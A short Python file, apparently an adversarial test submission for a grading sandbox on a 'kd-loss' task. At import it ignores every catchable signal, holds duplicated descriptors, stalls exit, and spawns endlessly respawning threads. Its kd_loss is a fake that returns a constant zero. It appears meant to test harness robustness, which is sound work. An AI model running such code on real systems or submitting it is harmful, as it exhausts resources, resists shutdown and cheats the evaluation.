# tries: leaves threads behind that ignore every signal, hold every descriptor and start each other anew
# question: kd-loss
# answer: zero
# must: gain nothing

"""A worker that has answered all is ended while these go on; what is left of it holds its pipes and its memory."""

import atexit
import os
import signal
import threading
import time

HELD = [os.dup(descriptor) for descriptor in (1, 2, 3) for _ in range(3)]


def haunt():
    while True:
        time.sleep(0.1)
        try:
            threading.Thread(target=haunt, daemon=False).start()
        except RuntimeError:  # as many as there may be
            time.sleep(5)


for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        continue
atexit.register(lambda: time.sleep(1000))
threading.Thread(target=haunt, daemon=False).start()


def kd_loss(student_logits, teacher_logits, labels, *, temperature=4.0, alpha=0.5):
    return (student_logits * 0).sum()
